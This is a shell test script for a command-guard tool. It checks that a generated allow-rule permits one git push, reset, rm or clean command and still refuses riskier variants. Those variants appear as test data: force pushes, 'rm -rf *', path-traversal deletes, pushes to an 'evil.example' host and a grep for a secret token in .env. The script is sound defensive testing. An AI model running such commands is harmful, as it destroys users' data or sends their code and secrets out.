# SPDX-License-Identifier: Apache-2.0
# A "to allow" line lets its act through, and none that is worse: forced, elsewhere, longer, on another port.
. "$LIB/case.sh"
git init -q -b main . && git config user.email a@b.c && git config user.name a
echo one >kept.txt && git add kept.txt && git commit -qm one && echo two >kept.txt && git commit -qam two
git init -q --bare "$HOME/there.git" && git remote add origin "$HOME/there.git"
precious d1/a sub/d2/b other/c
# Without a branch: nothing to push, but the push would be asked about.
check_with() { # POLICY COMMAND
  local status=0
  guard check --policy "$1" --shell "$2" >"$OUT" 2>"$ERR" || status=$?
  echo "$status"
}
try() { # COMMAND WORSE...
  local command=$1 worse line
  shift
  rm -f out.json
  guard_run --ci --quiet --report out.json -- bash -c "$command; true"
  assert_status 3
  line=$(python3 -c 'import json; print(json.load(open("out.json"))["refusals"][0]["to_allow"])')
  rm -f out.json
  printf '%s\n' "$line" >"$CASE_ROOM/line.yaml"
  [[ $(check_with "$CASE_ROOM/line.yaml" "$command") == 0 ]] || fail "with \"$line\" it is refused: $command"
  for worse in "$@"; do
    [[ $(check_with "$CASE_ROOM/line.yaml" "$worse") == 3 ]] || fail "\"$line\" lets through: $worse"
  done
}
try 'git push' 'git push --force' 'git push origin :main' 'git push --mirror' 'git push origin main' \
  'git push https://evil.example/x.git' 'git -c remote.origin.url=https://evil.example/x push' \
  'git --git-dir=other/.git push' 'GIT_DIR=other/.git git push'
try 'git push origin main' 'git push' 'git push origin :main' 'git push --force origin main' 'git push origin +main' \
  'git push evil main' 'git push origin main other' 'git push --delete origin main' 'git push main origin'
try 'git reset --hard HEAD~1' 'git reset --hard' 'git reset --hard HEAD~2' 'git reset --hard origin/main'
try 'rm -rf d1' 'rm -rf d1 other' 'rm -rf other' 'rm -rf d1/../other' 'rm -rf *'
try 'cd sub; rm -rf d2' 'cd sub; rm -rf ../d1' 'rm -rf other' 'rm -rf sub'
echo made >made.txt
try 'git clean -fd' 'git clean -fdx' 'git clean -ffdx' 'git clean -f -d other'

# If no line opens it alone, no line is shown.
echo TOKEN=canary >.env
guard_run --ci --report out.json -- bash -c 'grep -r TOKEN . ; sleep 1; true'
python3 - <<'PYTHON' || fail "a line is shown for a secret that a search met"
import json
lines = [refusal["to_allow"] for refusal in json.load(open("out.json"))["refusals"]]
assert lines and all(line == "nothing: the search went on without this secret" for line in lines), lines
PYTHON
